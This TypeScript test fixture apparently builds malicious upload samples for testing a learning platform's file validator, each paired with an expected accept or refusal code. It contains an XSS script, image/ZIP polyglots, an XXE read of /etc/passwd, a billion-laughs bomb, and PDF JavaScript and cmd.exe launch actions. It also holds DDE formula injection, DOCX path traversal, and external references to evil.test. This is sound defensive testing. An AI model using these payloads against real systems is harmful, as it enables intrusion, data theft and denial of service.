import { crc32 } from 'node:zlib';
import type { MediaKind } from '@skillverse/contract/files/media';
import sharp from 'sharp';
import {
  aDocx,
  aFilm,
  aGif,
  aMoov,
  anAvi,
  aPdf,
  aPicture,
  aText,
  aTrack,
  aZip,
  box,
  someCaptions,
  wordParts,
} from '../../../server/test/given/files/made-files.ts';
import type { FileToUpload } from '../../../server/test/given/files/upload.ts';

/** A file that is what it says, and carries something besides. */
export interface Carrier {
  readonly what: string;
  readonly kind: MediaKind;
  readonly file: FileToUpload;
  /** What a course answers: taken, or the code of the refusal. */
  readonly answer: 'taken' | string;
}

/** Stands in every carrier; a picture that was re-encoded has lost it. */
export const LOAD = '<script>alert("the load")</script>';

const load = Buffer.from(LOAD);
const bytesOf = (...parts: (string | Uint8Array)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)));

function pngChunk(type: string, content: Uint8Array): Buffer {
  const named = bytesOf(type, content);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(content.length);
  sum.writeUInt32BE(crc32(named));
  return bytesOf(length, named, sum);
}

/** With a text in front of its picture. */
function withChunk({ bytes }: FileToUpload, type: string): Buffer {
  const head = 33;
  return bytesOf(bytes.subarray(0, head), pngChunk(type, bytesOf('Comment\0', load)), bytes.subarray(head));
}

async function pictures(): Promise<Carrier[]> {
  const [png, jpeg, gif] = [await aPicture('png'), await aPicture('jpeg'), await aPicture('gif')];
  const plain = sharp(png.bytes);
  const located = await plain
    .clone()
    .withExif({
      IFD0: { ImageDescription: LOAD },
      IFD3: { GPSLatitude: '51/1 30/1 0/1', GPSLatitudeRef: 'N' },
    })
    .jpeg()
    .toBuffer();
  const drawn: [string, string, Uint8Array | Promise<Uint8Array>][] = [
    ['a page behind a PNG', 'Lake.png', bytesOf(png.bytes, load)],
    ['a page in a chunk of a PNG', 'Lake.png', withChunk(png, 'tEXt')],
    ['a chunk of its own in a PNG', 'Lake.png', withChunk(png, 'juNk')],
    [
      'a program of Java behind a JPG',
      'Lake.jpg',
      bytesOf(jpeg.bytes, aZip([{ name: 'A.class', content: LOAD }])),
    ],
    [
      'a program of Java behind a GIF',
      'Lake.gif',
      bytesOf(gif.bytes, aZip([{ name: 'A.class', content: LOAD }])),
    ],
    ['a script behind a GIF', 'Lake.gif', bytesOf(gif.bytes, '=1;', load)],
    ['a place and a page in a JPG', 'Lake.jpg', located],
    ['a comment in a JPG', 'Lake.jpg', withComment(jpeg)],
    ['a PNG called JPG', 'Lake.jpg', png.bytes],
    ['a JPG called GIF', 'Lake.gif', jpeg.bytes],
    ['a page by its name', 'Lake.html.png', png.bytes],
    ['a program by its name', 'Lake.php.gif', gif.bytes],
    ['an interlaced PNG', 'Lake.png', plain.clone().png({ progressive: true }).toBuffer()],
    ['a progressive JPG', 'Lake.jpg', plain.clone().jpeg({ progressive: true }).toBuffer()],
    ['a JPG of four inks', 'Lake.jpg', plain.clone().toColourspace('cmyk').jpeg().toBuffer()],
    ['a PNG of sixteen bits', 'Lake.png', plain.clone().toColourspace('rgb16').png().toBuffer()],
    [
      'a grey PNG that is seen through',
      'Lake.png',
      plain.clone().ensureAlpha(0.5).greyscale().png().toBuffer(),
    ],
    ['a PNG of a palette', 'Lake.png', plain.clone().png({ palette: true }).toBuffer()],
    ['one point', 'Lake.png', (await aPicture('png', { width: 1, height: 1 })).bytes],
    ['a line of points', 'Lake.png', (await aPicture('png', { width: 9000, height: 1 })).bytes],
    ['a hundred and twenty frames', 'Lake.gif', (await aGif(120)).bytes],
  ];
  return await Promise.all(
    drawn.map(async ([what, name, bytes]) => ({
      what,
      kind: 'image' as const,
      file: { name, bytes: await bytes },
      answer: 'taken',
    })),
  );
}

function withComment({ bytes }: FileToUpload): Buffer {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(load.length + 2);
  return bytesOf(bytes.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, load, bytes.subarray(2));
}

/** A box that says how many bytes are in it, which need not be true. */
function saying(type: string, length: number | bigint, content: Uint8Array = load): Buffer {
  const head = Buffer.alloc(typeof length === 'bigint' ? 16 : 8);
  head.writeUInt32BE(typeof length === 'bigint' ? 1 : length, 0);
  head.write(type, 4, 'latin1');
  if (typeof length === 'bigint') head.writeBigUInt64BE(length, 8);
  return bytesOf(head, content);
}

function films(): Carrier[] {
  const { bytes } = aFilm();
  const moov = aMoov();
  const ftyp = box('ftyp', Buffer.from('isom\0\0\x02\0isom'));
  const many = (count: number) => Buffer.concat(Array<Buffer>(count).fill(box('free')));
  const found: [string, Uint8Array, string][] = [
    ['a page among the pictures of a film', bytesOf(ftyp, moov, box('mdat', load)), 'taken'],
    ['a page in an empty box', bytesOf(bytes, box('free', load)), 'taken'],
    ['a page in a box of its own', bytesOf(bytes, box('uuid', load)), 'taken'],
    ['a page about a film', bytesOf(ftyp, aMoov([aTrack(), box('udta', load)]), box('mdat')), 'taken'],
    [
      'an address of pictures elsewhere',
      bytesOf(ftyp, box('moov', box('dref', box('url ', Buffer.from('https://evil.test/x')))), box('mdat')),
      'VIDEO_MISSING',
    ],
    ['pictures up to the end', bytesOf(ftyp, moov, saying('mdat', 0)), 'taken'],
    ['a length of 64 bits', bytesOf(ftyp, moov, saying('mdat', BigInt(16 + load.length))), 'taken'],
    ['twenty thousand boxes', bytesOf(ftyp, moov, many(20_000)), 'taken'],
    ['sixty thousand boxes', bytesOf(ftyp, moov, many(60_000)), 'FILE_TYPE_REFUSED'],
    ['a length beyond the end', bytesOf(ftyp, moov, saying('mdat', 0x7fffffff)), 'FILE_DAMAGED'],
    ['a length beyond all', bytesOf(ftyp, moov, saying('mdat', 2n ** 63n)), 'FILE_DAMAGED'],
    ['a length of nothing', bytesOf(ftyp, moov, saying('mdat', 3)), 'FILE_TYPE_REFUSED'],
    ['a length of 64 bits that is none', bytesOf(ftyp, moov, saying('mdat', 4n)), 'FILE_TYPE_REFUSED'],
    ['no film in it', bytesOf(ftyp, box('mdat', load)), 'FILE_DAMAGED'],
    ['a box without a name', bytesOf(ftyp, moov, saying('\0\0\0\0', 8 + load.length)), 'FILE_TYPE_REFUSED'],
  ];
  const avi = anAvi();
  return [
    ...found.map(([what, content, answer]) => ({
      what,
      kind: 'video' as const,
      file: { name: 'Film.mp4', bytes: content },
      answer,
    })),
    {
      what: 'a page behind an AVI',
      kind: 'video',
      file: { ...avi, bytes: bytesOf(avi.bytes, load) },
      answer: 'FILE_TYPE_REFUSED',
    },
  ];
}

type Found = readonly [what: string, file: FileToUpload, answer: string];

function pdfs(): Found[] {
  return [
    ['a script in a PDF', aPdf(`/OpenAction<</S/JavaScript/JS(app.alert(1))>>`), 'taken'],
    ['a program that a PDF starts', aPdf('/OpenAction<</S/Launch/F(cmd.exe)>>'), 'taken'],
    ['a file in a PDF', aPdf(`/Names<</EmbeddedFiles 9 0 R>>% ${LOAD}`), 'taken'],
    ['an address that a PDF opens', aPdf('/AA<</O<</S/URI/URI(https://evil.test/)>>>>'), 'taken'],
    ['a page behind a PDF', { ...aPdf(), bytes: bytesOf(aPdf().bytes, load) }, 'PDF_CONTINUES'],
    ['a page before a PDF', { ...aPdf(), bytes: bytesOf(load, aPdf().bytes) }, 'PDF_BEGINS_LATE'],
    ['a page by the name of a PDF', { ...aPdf(), name: 'Notes.html.pdf' }, 'FILE_NAME_REFUSED'],
  ];
}

function words(): Found[] {
  const [types, relations] = wordParts();
  const part = (name: string, content: string | Buffer) => ({ name, content });
  const word = (...parts: ReturnType<typeof part>[]) => aDocx([types!, relations!, ...parts] as never);
  const xxe =
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document>&e;</w:document>';
  const laughs = `<!DOCTYPE x [${Array.from({ length: 20 }, (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`).join('')}]>`;
  return [
    ['another file in the words of a DOCX', word(part('word/document.xml', xxe)), 'FILE_DAMAGED'],
    ['words without end in a DOCX', word(part('word/document.xml', laughs)), 'FILE_DAMAGED'],
    [
      'a hundred megabytes in a DOCX',
      word(part('word/document.xml', Buffer.alloc(100_000_000))),
      'FILE_DAMAGED',
    ],
    [
      'a template elsewhere of a DOCX',
      word(
        part('word/document.xml', LOAD),
        part(
          'word/_rels/settings.xml.rels',
          '<Relationship TargetMode="External" Target="https://evil.test/x.dotm"/>',
        ),
      ),
      'DOCUMENT_REFUSED',
    ],
    [
      'ten thousand parts in a DOCX',
      word(
        part('word/document.xml', LOAD),
        ...Array.from({ length: 10_000 }, (_, at) => part(`word/${at}`, '')),
      ),
      'FILE_DAMAGED',
    ],
    [
      'a path that leads out of a DOCX',
      word(part('word/document.xml', LOAD), part('word/../../../etc/x', LOAD)),
      'FILE_TYPE_REFUSED',
    ],
    [
      'a program in a DOCX',
      word(part('word/document.xml', LOAD), part('word/vbaProject.bin', LOAD)),
      'DOCUMENT_REFUSED',
    ],
  ];
}

function texts(): Found[] {
  return [
    ['a page as text', aText(`<!doctype html>${LOAD}`), 'taken'],
    [
      'the test of virus scanners as text',
      aText('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'),
      'taken',
    ],
    ['formulas as text', aText('=cmd|" /C calc"!A0,@SUM(1),+1,-1'), 'taken'],
    ['text that turns its direction', aText('\u202e\u2066\u200b'), 'taken'],
    [
      'text of sixteen bits',
      { name: 'List.txt', bytes: Buffer.from(`\uFEFF${LOAD}`, 'utf16le') },
      'TEXT_NOT_UTF8',
    ],
    [
      'text of one byte a letter',
      { name: 'List.txt', bytes: Buffer.from('Größe', 'latin1') },
      'TEXT_NOT_UTF8',
    ],
    [
      'text with letters too long',
      { name: 'List.txt', bytes: bytesOf(load, Buffer.from([0xc0, 0xbc])) },
      'TEXT_NOT_UTF8',
    ],
    [
      'text with half a letter',
      { name: 'List.txt', bytes: bytesOf(load, Buffer.from([0xed, 0xa0, 0x80])) },
      'TEXT_NOT_UTF8',
    ],
    [
      'text that ends within a letter',
      { name: 'List.txt', bytes: bytesOf(load, Buffer.from([0xe2, 0x82])) },
      'TEXT_NOT_UTF8',
    ],
  ];
}

function captions(): Found[] {
  const vtt = (content: string | Buffer) => ({ name: 'Film.vtt', bytes: Buffer.from(content) });
  const head = someCaptions().bytes;
  return [
    [
      'a page in captions',
      { name: 'Film.vtt', bytes: bytesOf(head, '\n00:03.000 --> 00:04.000\n', load) },
      'taken',
    ],
    ['a style that loads', vtt('WEBVTT\n\nSTYLE\n::cue { background: url(https://evil.test/x) }\n'), 'taken'],
    [
      'captions behind a mark',
      vtt('\uFEFFWEBVTT\r\n\r\n00:00.000 --> 00:01.000\r\n<b onclick=x>a</b>\r\n'),
      'taken',
    ],
    ['captions that end early', { name: 'Film.vtt', bytes: bytesOf(head, '\0', load) }, 'FILE_TYPE_REFUSED'],
    [
      'captions of sixteen bits',
      { name: 'Film.vtt', bytes: Buffer.from('\uFEFFWEBVTT\n', 'utf16le') },
      'TEXT_NOT_UTF8',
    ],
    ['a page that says it is captions', vtt(`<!-- WEBVTT -->${LOAD}`), 'FILE_TYPE_REFUSED'],
    ['a word that begins like captions', vtt('WEBVTTS\n\n'), 'FILE_TYPE_REFUSED'],
  ];
}

export async function carriers(): Promise<Carrier[]> {
  const of = (kind: MediaKind, found: readonly Found[]) =>
    found.map(([what, file, answer]) => ({ what, kind, file, answer }));
  const documents = [...pdfs(), ...words(), ...texts()];
  return [...(await pictures()), ...films(), ...of('document', documents), ...of('caption', captions())];
}
